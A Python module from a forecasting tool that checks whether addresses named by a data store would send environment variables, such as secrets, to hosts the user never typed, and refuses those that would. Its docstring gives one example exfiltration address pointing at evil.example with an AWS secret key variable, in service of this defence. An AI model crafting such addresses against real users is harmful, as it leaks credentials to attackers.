"""Which variables of the environment go to which hosts: those that somebody here has typed into an address.

The threat: a store may be a stranger's, and says where its data is. ``https://evil.example/${AWS_SECRET_ACCESS_KEY}``
in it would hand the variable to whoever wrote it, at the first ``forecast predict``. So of an address that a store
tells:

    a variable is looked up   where it was typed for this host before, in a ``train`` or ``retrain`` of this user;
                              else where a password stands, if only passwords that were taken out of addresses are
                              called so (DATABASE_PASSWORD …), and it was typed for no other host
    all else                  is refused, with the command that names the address anew

What is typed, in a variable of the program's or in the user's own forecast.toml means what it says.
"""

import os
import shlex
from contextlib import suppress
from pathlib import Path

from forecast.addresses import LOCAL, host_of, is_made_name, references, scheme_of
from forecast.errors import UsageError

FILE = "known-hosts"
"""A line a pair: the host, a blank, the variable."""


def state_file() -> Path:
    """Returns where what was typed is kept: among the user's own files, where no store brings it along."""
    told = os.environ.get("XDG_STATE_HOME", "")
    return (Path(told) if Path(told).is_absolute() else Path.home() / ".local" / "state") / "forecast" / FILE


def remember(address: str) -> None:
    """Keeps that variables may go to the host of an address, which somebody typed; a disk that refuses forgets it."""
    pairs = {f"{host_of(address)} {name}" for name, _ in references(address)}
    if not (new := sorted(pairs - _known())):
        return
    with suppress(OSError, RuntimeError):  # there may be no home
        path = state_file()
        path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
        with path.open("a", encoding="utf-8") as file:
            file.write("".join(f"{line}\n" for line in new))


def checked_source(source: str, command: str) -> str:
    """Returns the data that a store names, if it is no address that could carry off a secret.

    Args:
        source: a path or an address.
        command: that names the address itself, up to there, for the hint.

    Raises:
        UsageError: it is such an address.
    """
    used = references(source)
    if not used or scheme_of(source) in LOCAL:  # what lies on this machine is sent nowhere
        return source
    known, host = _known(), host_of(source)
    for name, is_secret in used:
        others = {place for place, _, variable in (line.partition(" ") for line in known) if variable == name}
        if host in others or (is_secret and is_made_name(name) and not others):
            continue
        what = f"what {name.removeprefix('file:')} holds" if name.startswith("file:") else f"the variable {name}"
        message = (
            f"The store says that its data is {source}: that would send {what} to {host}, which nobody here typed."
        )
        raise UsageError(message, f"if it is to go there: {command} {shlex.quote(source)}")
    return source


def _known() -> set[str]:
    with suppress(OSError, ValueError, RuntimeError):
        return {line for line in state_file().read_text(encoding="utf-8").splitlines() if " " in line}
    return set()
